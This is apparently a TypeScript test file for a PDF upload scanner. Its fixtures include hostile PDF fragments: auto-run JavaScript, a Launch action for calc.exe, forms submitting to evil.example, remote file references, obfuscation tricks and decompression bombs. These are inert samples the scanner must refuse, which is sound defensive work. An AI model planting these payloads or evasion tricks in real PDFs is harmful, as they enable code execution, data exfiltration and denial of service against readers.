import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import PdfKit from 'pdfkit';
import { describe, expect, it } from 'vitest';
import { scanLimits } from '#domain/scan/scan.ts';
import { makeScanInspector } from '#functions/scanning/adapters/scan-inspector.ts';
import { pdfOf, plainPdf, streamOf, textPage, zeros } from './corpus.ts';
import { engines } from './engines.ts';

const inspector = makeScanInspector(engines);
const inspect = (bytes: Uint8Array) => inspector.inspect(bytes, 'application/pdf');
const refused = (refusal: string) => ({ ok: false, refusal });
const accepted = (pages: number) => ({
  ok: true,
  inspection: { mediaType: 'application/pdf', pages },
});

const printed = (options: PDFKit.PDFDocumentOptions): Promise<Buffer> =>
  new Promise((resolve) => {
    const pieces: Buffer[] = [];
    const document = new PdfKit(options);
    document.on('data', (piece: Buffer) => pieces.push(piece));
    document.on('end', () => resolve(Buffer.concat(pieces)));
    document.text('Dossier').addPage().text('Second page');
    document.end();
  });

describe('a PDF', () => {
  it('is accepted with the number of its pages', async () => {
    expect(await inspect(plainPdf(1))).toMatchObject(accepted(1));
    expect(await inspect(plainPdf(scanLimits.pages))).toMatchObject(accepted(scanLimits.pages));
    expect(await inspect(plainPdf(scanLimits.pages + 1))).toEqual(refused('too-many-pages'));
  });

  it.each([true, false])(
    'of scanned pages is accepted, object streams %s',
    async (useObjectStreams) => {
      const document = await PDFDocument.create();
      const image = await document.embedJpg(await textPage().jpeg().toBuffer());
      for (let n = 0; n < 3; n++) document.addPage([595, 842]).drawImage(image);
      expect(await inspect(await document.save({ useObjectStreams }))).toMatchObject(accepted(3));
    },
  );

  it('from another writer is accepted', async () => {
    expect(await inspect(await printed({}))).toMatchObject(accepted(2));
  });

  it('that counts its pages wrongly is counted anew', async () => {
    const lying = plainPdf(3).toString('latin1').replace('/Count 3', '/Count 1');
    expect(await inspect(Buffer.from(lying, 'latin1'))).toMatchObject(accepted(3));
  });

  it('with a password is refused', async () => {
    expect(await inspect(await printed({ userPassword: 'secret' }))).toEqual(
      refused('encrypted-pdf'),
    );
  });

  it.each(['1.4', '1.7', '1.7ext3'] as const)(
    'that opens without a question is accepted, though its owner locked it: %s',
    async (pdfVersion) => {
      const locked = await printed({ ownerPassword: 'secret', pdfVersion });
      expect(await inspect(locked)).toMatchObject(accepted(2));
    },
  );

  it.each([
    ['not a PDF behind its first line', Buffer.from('%PDF-1.7\nhello, hello, hello')],
    ['a header and nothing else', Buffer.from('%PDF-1.7\n')],
  ])('that is %s is refused', async (_, bytes) => {
    expect(await inspect(bytes)).toEqual(refused('unreadable'));
  });

  it.each([
    ['without pages', plainPdf(0)],
    ['without a catalogue', pdfOf(['<< /Type /Nothing >>'])],
    [
      'a page tree that bites its tail',
      pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] >>']),
    ],
    [
      'with an object nobody can read',
      pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Kids [ >>']),
    ],
  ])('in which no reader finds a page is refused: %s', async (_, bytes) => {
    expect(await inspect(bytes)).toEqual(refused('no-pages'));
  });

  it('cut off before its catalogue is refused', async () => {
    const document = await PDFDocument.create();
    document.addPage();
    const bytes = await document.save();
    expect(await inspect(bytes.subarray(0, 200))).toEqual(refused('unreadable'));
  });
});

describe('active content', () => {
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
  /** Object 4; a catalogue of `plainPdf` need not lead to it. */
  const annotation = (action: string): string =>
    `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << ${action} >> >>`;

  it.each([
    ['a script on opening', plainPdf(1, `/OpenAction ${script}`)],
    ['a script with its name in hex', plainPdf(1, '/OpenAction << /S /J#61vaScript /J#53 (x) >>')],
    [
      'a script in the name tree',
      plainPdf(1, `/Names << /JavaScript << /Names [(a) ${script}] >> >>`),
    ],
    ['a script nobody points to', plainPdf(1, '', [script])],
    ['a program to start', plainPdf(1, '/OpenAction << /S /Launch /F (calc.exe) >>')],
    [
      'a form that sends itself',
      plainPdf(1, '', ['<< /S /SubmitForm /F (https://evil.example) >>']),
    ],
    ['a film', plainPdf(1, '', ['<< /Type /Annot /Subtype /RichMedia >>'])],
  ])('is refused: %s', async (_, bytes) => {
    expect(await inspect(bytes)).toEqual(refused('active-content'));
  });

  it.each([
    ['an address on opening', plainPdf(1, '/OpenAction << /S /URI /URI (https://example.com) >>')],
    [
      'an address that is no web page',
      plainPdf(1, '/Held 4 0 R', [annotation('/S /URI /URI (file:///c:/x)')]),
    ],
    [
      'a page of another file',
      plainPdf(1, '/Held 4 0 R', [annotation('/S /GoToR /F (b.pdf) /D [0 /Fit]')]),
    ],
    ['an action that nobody knows', plainPdf(1, '/Held 4 0 R', [annotation('/S /Surprise')])],
    [
      'a second action behind a link',
      plainPdf(1, '/Held 4 0 R', [annotation(`/S /GoTo /D [3 0 R /Fit] /Next ${script}`)]),
    ],
    ['something on each page turned', plainPdf(1, '/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>')],
    [
      'an annotation that nobody knows',
      plainPdf(1, '/Held 4 0 R', ['<< /Type /Annot /Subtype /Hologram /Rect [0 0 9 9] >>']),
    ],
    [
      'a picture out of another file',
      plainPdf(1, '/Held 4 0 R', [
        streamOf('/Subtype /Image /F (\\\\host\\x.png)', Buffer.alloc(4)),
      ]),
    ],
  ])('is refused, because only what shows is allowed: %s', async (_, bytes) => {
    expect(await inspect(bytes)).toEqual(refused('active-content'));
  });

  it.each([
    ['an XFA form', plainPdf(1, '/AcroForm << /XFA (x) >>')],
    [
      'a script of a field',
      plainPdf(1, '/Held 4 0 R', [`<< /FT /Tx /T (a) /AA << /K ${script} >> >>`]),
    ],
    [
      'a button that sends',
      plainPdf(1, '/Held 4 0 R', [
        '<< /FT /Btn /T (a) /A << /S /SubmitForm /F (https://example.com) >> >>',
      ]),
    ],
  ])('of a form has a code of its own: %s', async (_, bytes) => {
    expect(await inspect(bytes)).toEqual(refused('scripted-form'));
  });

  it.each([
    ['a program', 'a.exe', false],
    ['a PDF, which nobody looked into', 'a.pdf', false],
    ['data', 'declaration.xml', true],
    ['print settings', 'press.joboptions', true],
  ])('that is attached is judged by whether it can run: %s', async (_, name, mayBe) => {
    const file = `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 5 0 R >> >>`;
    const bytes = plainPdf(1, `/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>`, [
      file,
      streamOf('/Type /EmbeddedFile', Buffer.from('x')),
    ]);
    expect(await inspect(bytes)).toMatchObject(mayBe ? accepted(1) : refused('attachment'));
  });

  it('is refused when a later version of the object looks harmless', async () => {
    const first = plainPdf(1, '', [script]).toString('latin1');
    const bytes = Buffer.from(`${first}4 0 obj\n<< /Harmless true >>\nendobj\n`, 'latin1');
    expect(await inspect(bytes)).toEqual(refused('active-content'));
  });

  it('is refused inside a stream to which only the cross-reference table leads', async () => {
    const hidden = streamOf('', Buffer.from(`9 0 obj ${script} endobj`));
    expect(await inspect(plainPdf(1, '', [hidden]))).toEqual(refused('active-content'));
  });

  it.each([
    ['that still holds', ''],
    ['that is overwritten', '20 0 obj\n<< /Harmless true >>\nendobj\n'],
  ])('is refused out of an object stream %s', async (_, later) => {
    const stream = streamOf(
      '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode',
      deflateSync(Buffer.from(`20 0 ${script}`)),
    );
    const bytes = Buffer.concat([plainPdf(1, '', [stream]), Buffer.from(later)]);
    expect(await inspect(bytes)).toEqual(refused('active-content'));
  });

  const appended = (object: string) =>
    Buffer.concat([plainPdf(1), Buffer.from(`\n9 0 obj\n${object}\nendobj\n`, 'latin1')]);
  const remote = '<< /S /GoToR /F (b.pdf) /D [0 /Fit] >>';
  const packed = (dictionary: string, data: Buffer) =>
    plainPdf(1, '', [streamOf(dictionary, data)]);
  const objects = Buffer.from(`20 0 ${remote}`);
  it.each([
    ['a page of another file', appended(remote)],
    ['its type behind a comment', appended('<< /S%\n/GoToR /F (b.pdf) >>')],
    ['its type behind much space', appended(`<< /S${' '.repeat(5_000)}/GoToR /F (b.pdf) >>`)],
    ['its type with an escape', appended('<< /S /GoTo#52 /F (b.pdf) >>')],
    ['its type in an object of its own', appended('/GoToR')],
    ['an address that is no web page', appended('<< /S /URI /URI (file:///c:/x) >>')],
    ['such an address in hex', appended('<< /S /URI /URI <66696c653a2f2f2f> >>')],
    ['such an address by reference', appended('<< /S /URI /URI 4 0 R >>')],
    ['a film', appended('<< /S /Movie /T (x) >>')],
    [
      'an object stream without a type',
      packed('/N 1 /First 5 /Filter /FlateDecode', deflateSync(objects)),
    ],
    ['an object stream that is not packed', packed('/Type /ObjStm /N 1 /First 5', objects)],
    [
      'an object stream behind a long dictionary',
      packed(`/N 1 /First 5 /X (${'x'.repeat(9_000)}) /Filter /FlateDecode`, deflateSync(objects)),
    ],
    [
      'an object stream that hides what it is',
      packed(`/N 1 /First 5 /X (endobj stream\n) /Filter /FlateDecode`, deflateSync(objects)),
    ],
  ])('is refused where no reader need find it: %s', async (_, bytes) => {
    expect(await inspect(bytes)).toEqual(refused('active-content'));
  });

  /** A stream behind the end of the file, to which nothing leads. */
  const lost = (dictionary: string) =>
    Buffer.concat([
      plainPdf(1),
      Buffer.from(
        `\n9 0 obj\n<< /Length 0 ${dictionary} >>\nstream\n\nendstream\nendobj\n`,
        'latin1',
      ),
    ]);
  it.each([
    ['by its name', '/F (//evil.example/share/a)'],
    ['by its name in hex', '/F <2f2f6576696c>'],
    ['by a specification', '/F << /FS /URL /F (https://evil.example) >>'],
    ['by a reference', '/F 4 0 R'],
    ['by an escaped key', '/#46 (a)'],
    ['behind a comment', '/F % harmless\n (a)'],
    ['through a filter of its own', '/FFilter /FlateDecode'],
    ['behind a string that ends an object', '/F (a) /X (endobj 8 0 obj <<)'],
  ])(
    'is refused where no reader need find it: data in another file, named %s',
    async (_, named) => {
      expect(await inspect(lost(named))).toEqual(refused('active-content'));
    },
  );

  it.each([
    ['a filter by its short name', '/F /Fl'],
    ['flags of an annotation', '/F 4'],
    ['a word in a string', '/X (/F \\(a\\))'],
  ])('does not mean %s', async (_, harmless) => {
    expect(await inspect(lost(harmless))).toMatchObject(accepted(1));
  });

  it('does not mean an attached text that stands before a stream', async () => {
    const file = '<< /Type /Filespec /F (a.txt) /UF (a.txt) /EF << /F 5 0 R >> >>';
    const bytes = plainPdf(1, '', [file, streamOf('', Buffer.from('text'))]);
    expect(await inspect(bytes)).toMatchObject(accepted(1));
  });

  it.each([
    ['its filter elsewhere', '/N 1 /First 5 /Filter 9 0 R'],
    ['a name with an escape', '/N 1 /First 5 /Filt#65r /ASCIIHexDecode'],
    ['two filters', '/N 1 /First 5 /Filter [/FlateDecode /FlateDecode]'],
    ['another filter', '/N 1 /First 5 /Filter /LZWDecode'],
    ['a predictor', '/N 1 /First 5 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>'],
  ])('is not looked for in an object stream with %s: it is refused', async (_, dictionary) => {
    const harmless = deflateSync(Buffer.from('20 0 << /Harmless true >>'));
    expect(await inspect(packed(dictionary, harmless))).toEqual(refused('active-content'));
  });

  it('does not mean links and bookmarks', async () => {
    const link = '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com) >> >>';
    const bytes = plainPdf(1, '/OpenAction [3 0 R /Fit] /PageMode /UseOutlines', [link]);
    expect(await inspect(bytes)).toMatchObject(accepted(1));
  });
});

describe('a PDF bomb', () => {
  it.each([
    ['an object stream', streamOf('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', zeros(80))],
    ['an object stream without a type', streamOf('/N 1 /First 4 /Filter /FlateDecode', zeros(80))],
    ['lists without end', `[ ${'1 '.repeat(1_500_000)} ]`],
    ['dictionaries without end', `[ ${'<< /A << >> >> '.repeat(300_000)} ]`],
  ])('is refused: %s', async (_, object) => {
    expect(await inspect(plainPdf(1, '/Held 4 0 R', [object]))).toEqual(refused('too-complex'));
  });

  it.each([
    [
      'a claim of a billion entries',
      streamOf('/Type /XRef /Size 1000000000 /W [1 2 1]', Buffer.alloc(4)),
    ],
    [
      'a claim of wide entries',
      streamOf('/Type /XRef /Size 10 /W [1 1000000000 1]', Buffer.alloc(4)),
    ],
    ['nested lists', '['.repeat(100_000)],
  ])('that no reader unpacks is not unpacked: %s', async (_, object) => {
    const started = performance.now();
    expect(await inspect(plainPdf(1, '/Held 4 0 R', [object]))).toMatchObject(accepted(1));
    expect(performance.now() - started).toBeLessThan(2_000);
  });

  it.each(['%', ' ', '11 '])('takes no quadratic time: a million of %j', async (character) => {
    const bytes = Buffer.concat([
      plainPdf(1),
      Buffer.from('x'),
      Buffer.alloc(1_000_000, character),
      Buffer.from('\nz '),
      plainPdf(1),
    ]);
    const started = performance.now();
    expect(await inspect(bytes)).toMatchObject(accepted(1));
    expect(performance.now() - started).toBeLessThan(2_000);
  });
});
